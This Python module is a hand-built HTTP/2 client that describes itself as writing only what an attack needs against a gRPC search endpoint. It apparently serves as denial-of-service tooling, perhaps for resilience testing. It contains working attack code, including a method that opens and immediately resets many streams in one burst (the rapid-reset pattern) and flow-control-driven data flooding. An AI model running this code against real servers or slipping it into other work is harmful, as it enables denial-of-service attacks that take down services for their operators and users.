"""A caller that speaks HTTP/2 frame by frame, for what no gRPC library would send.

Rule: it only writes what an attack needs and reads the frames of flow control; answers are not decoded. The frames are
those of RFC 9113; headers are literals without Huffman coding (RFC 7541, 6.2.2).
"""

import socket
import struct
from types import TracebackType
from typing import Self

SEARCH = "/sightline.v1.LensService/Search"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
ACK, END_STREAM, END_HEADERS = 1, 1, 4
INITIAL_WINDOW_SIZE = 4
CANCEL = 8
FIRST_WINDOW = 65_535
FRAME_BYTES = 16_384
TURN_BYTES = 1 << 20
WAIT_S = 10.0


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One frame: length, kind, flags, stream, payload."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name: str, value: str) -> bytes:
    """One header that enters no table; both parts are shorter than 127 bytes."""
    return b"".join((b"\x00", bytes([len(name)]), name.encode(), bytes([len(value)]), value.encode()))


def request_headers(path: str, timeout: str = "") -> bytes:
    """The header block of a gRPC call to `path`, with a deadline such as `5S` where one is given."""
    fields = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "attack"),
        ("te", "trailers"),
        ("content-type", "application/grpc"),
    ]
    if timeout:
        fields.append(("grpc-timeout", timeout))
    return b"".join(literal(name, value) for name, value in fields)


class Connection:
    """One connection. Streams are numbered 1, 3, 5 and so on. Raises `OSError` when the server ends it."""

    def __init__(self, target: str) -> None:
        host, _, port = target.rpartition(":")
        self._socket = socket.create_connection((host, int(port)), timeout=WAIT_S)
        self._socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self._unread = b""
        self._next = 1
        self._first_window = FIRST_WINDOW
        self._window = FIRST_WINDOW
        self._windows: dict[int, int] = {}
        self.ended: set[int] = set()
        self._socket.sendall(PREFACE + frame(SETTINGS, 0, 0))

    def __enter__(self) -> Self:
        return self

    def __exit__(
        self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None
    ) -> None:
        self._socket.close()

    def open(self, path: str = SEARCH, *, timeout: str = "") -> int:
        """Begins a call to `path`; returns its stream."""
        stream, block = self._take(), request_headers(path, timeout)
        self._windows[stream] = self._first_window
        self._socket.sendall(frame(HEADERS, END_HEADERS, stream, block))
        return stream

    def open_and_reset(self, count: int, path: str = SEARCH) -> None:
        """Begins `count` calls and resets each at once."""
        block, reset = request_headers(path), struct.pack(">I", CANCEL)
        streams = [self._take() for _ in range(count)]
        pairs = (frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, reset) for stream in streams)
        self._socket.sendall(b"".join(pairs))

    def send(self, stream: int, body: memoryview) -> int:
        """Sends as much of `body` as the windows allow, up to 1 MiB; returns how many bytes that were."""
        size = max(0, min(len(body), self._window, self._windows[stream], TURN_BYTES))
        parts = [body[place : min(place + FRAME_BYTES, size)] for place in range(0, size, FRAME_BYTES)]
        self._socket.sendall(b"".join(frame(DATA, 0, stream, bytes(part)) for part in parts))
        self._window -= size
        self._windows[stream] -= size
        return size

    def listen(self, wait_s: float = 0.0) -> None:
        """Reads what the server has sent, waiting up to `wait_s` for it."""
        self._socket.settimeout(wait_s)
        try:
            while True:
                received = self._socket.recv(1 << 16)
                if not received:
                    raise ConnectionResetError("the server closed the connection")
                self._unread += received
                self._socket.settimeout(0)
        except (TimeoutError, BlockingIOError):
            pass
        finally:
            self._socket.settimeout(WAIT_S)
        self._take_frames()

    def _take(self) -> int:
        stream, self._next = self._next, self._next + 2
        return stream

    def _take_frames(self) -> None:
        while len(self._unread) >= 9:
            size = int.from_bytes(self._unread[:3], "big")
            if len(self._unread) < 9 + size:
                return
            kind, flags = self._unread[3], self._unread[4]
            stream = int.from_bytes(self._unread[5:9], "big") & 0x7FFFFFFF
            payload, self._unread = self._unread[9 : 9 + size], self._unread[9 + size :]
            self._on_frame(kind, flags, stream, payload)

    def _on_frame(self, kind: int, flags: int, stream: int, payload: bytes) -> None:
        match kind:
            case _ if kind == SETTINGS and not flags & ACK:
                self._on_settings(payload)
            case _ if kind == PING and not flags & ACK:
                self._socket.sendall(frame(PING, ACK, 0, payload))
            case _ if kind == WINDOW_UPDATE:
                self._on_window(stream, int.from_bytes(payload, "big"))
            case _ if kind == RST_STREAM or (kind == HEADERS and flags & END_STREAM):
                self.ended.add(stream)
            case _ if kind == GOAWAY:
                raise ConnectionResetError(f"the server said GOAWAY: {payload[8:].decode(errors='replace')}")

    def _on_settings(self, payload: bytes) -> None:
        for place in range(0, len(payload), 6):
            name, value = struct.unpack_from(">HI", payload, place)
            if name == INITIAL_WINDOW_SIZE:
                change, self._first_window = value - self._first_window, value
                for stream in self._windows:
                    self._windows[stream] += change
        self._socket.sendall(frame(SETTINGS, ACK, 0))

    def _on_window(self, stream: int, more: int) -> None:
        if not stream:
            self._window += more
        elif stream in self._windows:
            self._windows[stream] += more
